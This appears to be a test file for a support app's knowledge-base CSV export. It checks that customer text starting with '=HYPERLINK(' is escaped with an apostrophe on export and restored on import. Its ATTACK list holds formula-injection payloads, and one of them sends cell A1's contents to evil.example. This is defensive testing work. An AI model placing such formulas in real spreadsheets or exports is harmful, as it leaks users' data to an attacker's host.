"""A customer's text never reaches a spreadsheet as a formula: a question starting with
`=HYPERLINK(` becomes a knowledge gap, then a draft article, and the KB CSV export writes it
with a `'` in front (as the analytics CSV does), which the import takes off again."""

from __future__ import annotations

import csv
import io
from typing import Any

from tests.conftest import first_reply

GAPS = "/api/v1/admin/insights/gaps"
EXPORT = "/api/v1/admin/kb/export"
IMPORT = "/api/v1/admin/kb/import"
ARTICLES = "/api/v1/admin/kb/articles"
ATTACK = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Do you sell spare parts for espresso machines?")',
    '=HYPERLINK("http://evil.example/", "Where can I buy spare parts for my coffee maker?")',
]


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


async def test_a_formula_from_a_customer_is_escaped_in_the_kb_csv_export(
    admin_client: Any,
) -> None:
    client, admin = admin_client
    for text in ATTACK:
        assert (await first_reply(client, text))["kind"] == "clarify", text
    report = (await client.get(GAPS, headers=admin)).json()
    [cluster] = [c for c in report["clusters"] if set(c["examples"]) == set(ATTACK)]
    created = await client.post(f"{GAPS}/{cluster['id']}/draft", headers=admin)
    assert created.status_code == 201, created.text
    draft = created.json()
    assert draft["title"].startswith("=HYPERLINK(")

    exported = await client.get(EXPORT, params={"format": "csv"}, headers=admin)
    assert exported.status_code == 200, exported.text
    [row] = [r for r in csv_rows(exported.content) if r["slug"] == draft["slug"]]
    assert row["title"] == "'" + draft["title"]
    assert row["questions"].startswith("'=HYPERLINK(")
    # No cell of the file starts as a formula.
    for cells in csv_rows(exported.content):
        assert all(v[:1] not in ("=", "+", "-", "@", "\t", "\r") for v in cells.values()), cells

    # The escape is undone on import: the export re-imports unchanged.
    response = await client.post(
        IMPORT, content=exported.content, headers={**admin, "Content-Type": "text/csv"}
    )
    assert response.status_code == 200, response.text
    assert response.json()["created"] == 0 and response.json()["updated"] == 0
    stored = (await client.get(f"{ARTICLES}/{draft['id']}", headers=admin)).json()
    assert stored["title"] == draft["title"] and stored["version"] == 1
